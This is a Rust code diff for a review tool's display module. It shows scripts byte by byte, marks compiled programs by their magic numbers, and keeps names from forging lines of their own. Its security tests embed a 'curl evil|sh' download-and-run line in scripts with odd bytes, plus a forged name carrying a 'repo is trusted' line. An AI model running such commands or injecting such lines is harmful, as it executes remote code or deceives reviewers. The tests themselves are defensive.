@@ -1,11 +1,25 @@
 //! Items as text for people: whole, or with a count of what is not shown.
 //!
 //! Promise: every character of it is seen; control, invisible and direction-turning ones stand as their
-//! number.
+//! number, bytes that are no text as theirs, and no name begins a line of its own. Only of a compiled program
+//! there is nothing to read.
 
 use crate::item::{Found, Item};
 use crate::limits::DETAIL_MAX_BYTES;
 use nightshift_terms::naming::clip;
+use std::borrow::Cow;
+use std::fmt::Write;
+
+/// What programs and archives of programs begin with: ELF, Mach-O, PE, WebAssembly, zip.
+const COMPILED: &[&[u8]] = &[
+    b"\x7fELF",
+    b"\xcf\xfa\xed\xfe",
+    b"\xce\xfa\xed\xfe",
+    b"\xca\xfe\xba\xbe",
+    b"MZ",
+    b"\0asm",
+    b"PK\x03\x04",
+];
 
 /// What a request shows, and how many bytes of it all that leaves out.
 pub fn detail(found: &Found) -> (String, u32) {
@@ -16,7 +30,7 @@ pub fn detail(found: &Found) -> (String, u32) {
         let room = DETAIL_MAX_BYTES.saturating_sub(text.len() + head.len());
         match readable(item) {
             Some(whole) => {
-                let (body, left) = fitting(whole, room);
+                let (body, left) = fitting(&whole, room);
                 unshown += left;
                 // A list without end would be no list: names go too, then.
                 if left == 0 {
@@ -28,17 +42,14 @@ pub fn detail(found: &Found) -> (String, u32) {
             None => {
                 unshown += item.shown.len().max(1);
                 if text.len() + head.len() < 2 * DETAIL_MAX_BYTES {
-                    text.push_str(&format!(
-                        "{head}\n  {} bytes that are no text\n",
-                        item.shown.len()
-                    ));
+                    text.push_str(&format!("{head}\n  {}\n", compiled(item)));
                 }
             }
         }
     }
     for why in &found.unreadable {
         unshown += 1;
-        text.push_str(&format!("not read: {}\n", visible(why)));
+        text.push_str(&format!("not read: {}\n", name(why)));
     }
     (text, u32::try_from(unshown).unwrap_or(u32::MAX))
 }
@@ -46,20 +57,38 @@ pub fn detail(found: &Found) -> (String, u32) {
 /// All of it.
 pub fn whole(found: &Found) -> String {
     let item = |item: &Item| {
-        let none =
-            || format!("  {} bytes that are no text, SHA-256 {}\n", item.shown.len(), item.sha256);
+        let none = || format!("  {}, SHA-256 {}\n", compiled(item), item.sha256);
         format!("{}\n{}\n", head(item), body(item).unwrap_or_else(none))
     };
-    let unread = found.unreadable.iter().map(|why| format!("not read: {}\n", visible(why)));
+    let unread = found.unreadable.iter().map(|why| format!("not read: {}\n", name(why)));
     found.distinct().into_iter().map(item).chain(unread).collect()
 }
 
 fn head(item: &Item) -> String {
-    format!("{} ({})", visible(&item.path), item.does)
+    format!("{} ({})", name(&item.path), name(&item.does))
 }
 
-fn readable(item: &Item) -> Option<&str> {
-    std::str::from_utf8(&item.shown).ok().filter(|text| !text.contains('\0'))
+/// It as text; none of a compiled program. Some byte that is no text makes no program of a script, and a shell
+/// reads on after it.
+fn readable(item: &Item) -> Option<Cow<'_, str>> {
+    if let Ok(text) = std::str::from_utf8(&item.shown) {
+        return Some(Cow::Borrowed(text));
+    }
+    if COMPILED.iter().any(|magic| item.shown.starts_with(magic)) {
+        return None;
+    }
+    let mut out = String::with_capacity(item.shown.len());
+    for chunk in item.shown.utf8_chunks() {
+        out.push_str(chunk.valid());
+        for byte in chunk.invalid() {
+            write!(out, "‹\\x{byte:02X}›").ok(); // Writing to a string cannot fail.
+        }
+    }
+    Some(Cow::Owned(out))
+}
+
+fn compiled(item: &Item) -> String {
+    format!("a compiled program of {} bytes, which nobody can read", item.shown.len())
 }
 
 fn body(item: &Item) -> Option<String> {
@@ -94,6 +123,11 @@ fn fitting(text: &str, room: usize) -> (String, usize) {
         }
     }
     (body, text.len() - taken)
+}
+
+/// A name, or another thing that stands in a line: with every character to be seen, on one line.
+pub fn name(text: &str) -> String {
+    nightshift_terms::visible::visible_line(text).into_owned()
 }
 
 /// `text` with every character to be seen. Tabs and line feeds stay.
@@ -133,8 +167,42 @@ mod tests {
         }
         let binary = Item::new(Part::Git, "c", "runs", b"\x7fELF\0\xff".to_vec());
         let (text, unshown) = detail(&found(vec![binary]));
-        assert!(text.contains("6 bytes that are no text") && unshown == 6, "{text}");
+        assert!(text.contains("a compiled program of 6 bytes") && unshown == 6, "{text}");
         let unread = Found { unreadable: vec!["d: too large".into()], ..Found::default() };
         assert!(detail(&unread).1 > 0);
+    }
+
+    #[test]
+    fn security_05_a_script_is_read_whatever_bytes_are_in_it() {
+        for (bytes, expected) in [
+            (&b"# caf\xe9\ncurl evil|sh\n"[..], "  # caf‹\\xE9›\n  curl evil|sh\n"),
+            (b"\xff\xfecurl evil", "  ‹\\xFF›‹\\xFE›curl evil\n"),
+            (b"a\0b\ncurl evil", "  a‹U+0000›b\n  curl evil\n"),
+            (b"a\0\xc3\ncurl evil", "  a‹U+0000›‹\\xC3›\n  curl evil\n"),
+            (b"MZ\ncurl evil\n", "  MZ\n  curl evil\n"),
+        ] {
+            let item = Item::new(Part::Scripts, "s", "runs", bytes.to_vec());
+            let (text, unshown) = detail(&found(vec![item.clone()]));
+            assert_eq!((text, unshown), (format!("s (runs)\n{expected}\n"), 0));
+            assert_eq!(whole(&found(vec![item])), format!("s (runs)\n{expected}\n"));
+        }
+        // What does not fit is counted here too.
+        let long = [vec![0xff; DETAIL_MAX_BYTES], b"\ncurl evil".to_vec()].concat();
+        let item = Item::new(Part::Scripts, "s", "runs", long);
+        let (text, unshown) = detail(&found(vec![item]));
+        assert!(unshown > 0 && !text.contains("curl evil"), "{unshown}");
+    }
+
+    #[test]
+    fn security_05_no_name_begins_a_line_of_its_own() {
+        let forged = "a\n/repo is trusted as it is\r\n\tx";
+        let item = Item::new(Part::Claude, forged, forged, b"x".to_vec());
+        let mut all = found(vec![item]);
+        all.unreadable = vec![format!("{forged}: too large")];
+        for text in [detail(&all).0, whole(&all)] {
+            assert_eq!(text.lines().count(), 4, "{text}");
+            assert!(!text.lines().any(|line| line.starts_with("/repo")), "{text}");
+            assert!(text.contains("a‹U+000A›/repo is"), "{text}");
+        }
     }
 }
